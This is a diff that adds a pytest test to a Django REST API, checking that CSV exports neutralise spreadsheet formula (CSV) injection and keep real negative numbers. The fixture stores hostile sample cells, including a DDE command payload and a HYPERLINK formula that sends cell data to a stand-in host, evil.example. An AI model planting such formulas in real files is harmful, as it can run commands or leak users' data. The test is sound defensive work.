@@ -11,6 +11,8 @@ want of permission.
 
 import base64
 import json
+import re
+from decimal import Decimal
 
 import pytest
 from django.apps import apps
@@ -23,7 +25,7 @@ from rest_framework.test import APIClient
 from policy.api.fields import CompactRelatedField
 from policy.api.urls import router
 
-from .api_support import client_for, editor_user
+from .api_support import client_for, csv_rows, editor_user
 
 
 def table_counts():
@@ -359,3 +361,73 @@ def test_an_empty_csv_page_keeps_its_header_and_content_type(db, url, header):
     assert response.status_code == 200
     assert response["Content-Type"] == "text/csv; charset=utf-8"
     assert response.content.decode().startswith(header)
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+
+@pytest.fixture
+def formulas(db):
+    """A policy whose title, summary and notes, and a topic whose name and description, begin the way a
+    spreadsheet formula does (saved, so their history holds them too), and a statistic with a real
+    negative value."""
+    from policy.models import Policy, Statistic, Topic
+
+    policy = Policy.objects.order_by("pk").first()
+    policy.title, policy.summary, policy.notes = "=cmd|' /C calc'!A0", "+1+cmd|x", FORMULA
+    policy.save()
+    topic = policy.topics.order_by("pk").first()
+    topic.name, topic.description = "@SUM(A1:A9)", "\t=1+1"
+    topic.save()
+    other = Topic.objects.exclude(pk=topic.pk).order_by("pk").first()
+    other.name, other.description = "-2+3", "\r=2+2"
+    other.save()
+    statistic = Statistic.objects.order_by("pk").first()
+    Statistic.objects.filter(pk=statistic.pk).update(value=-12.5)
+    return policy, topic, other, statistic
+
+
+def csv_export(response):
+    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
+    return csv_rows(response)
+
+
+def spreadsheet_formulas(rows):
+    """Cells a spreadsheet would evaluate: starting with = + - @, a tab or a CR, and not a plain number."""
+    return [
+        cell
+        for row in rows
+        for cell in row
+        if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"[-+]?\d+(\.\d+)?", cell)
+    ]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_as_formulas_are_neutralised(formulas):
+    """OWASP's CSV injection: every CSV the API writes prefixes such a cell with ' — lists (streamed and
+    paged), details, the timeline and history — and keeps real negative numbers as numbers."""
+    policy, topic, other, statistic = formulas
+    client = APIClient()
+    exports = {
+        name: csv_export(response)
+        for name, response in {
+            "streamed list": client.get(f"{API}policies/", {"format": "csv"}),
+            "list page": client.get(f"{API}policies/", {"format": "csv", "page_size": 1000}),
+            "detail": client.get(f"{API}policies/{policy.slug}/", {"format": "csv"}),
+            "timeline": client.get(f"{API}timeline/", {"format": "csv", "type": "policy", "page_size": 1000}),
+            "history": client.get(f"{API}topics/{topic.slug}/history/", {"format": "csv"}),
+            "topics": client.get(f"{API}topics/", {"format": "csv"}),
+        }.items()
+    }
+    assert {name: spreadsheet_formulas(response) for name, response in exports.items()} == {
+        name: [] for name in exports
+    }
+    header, *rows = exports["detail"]
+    row = dict(zip(header, rows[0], strict=True))
+    assert (row["title"], row["summary"], row["notes"]) == ("'=cmd|' /C calc'!A0", "'+1+cmd|x", "'" + FORMULA)
+    topics = {row[1]: row for row in exports["topics"]}
+    assert topics[topic.slug][2:4] == ["'@SUM(A1:A9)", "'\t=1+1"]
+    assert topics[other.slug][2:4] == ["'-2+3", "'\r=2+2"]
+    titles = {row[1]: row[2] for row in exports["timeline"]}
+    assert titles[policy.slug] == "'=cmd|' /C calc'!A0"
+    values = csv_export(client.get(f"{API}statistics/", {"format": "csv", "fields": "slug,value"}))
+    assert Decimal(dict(values)[statistic.slug]) == Decimal("-12.5"), "a negative number stays a number"
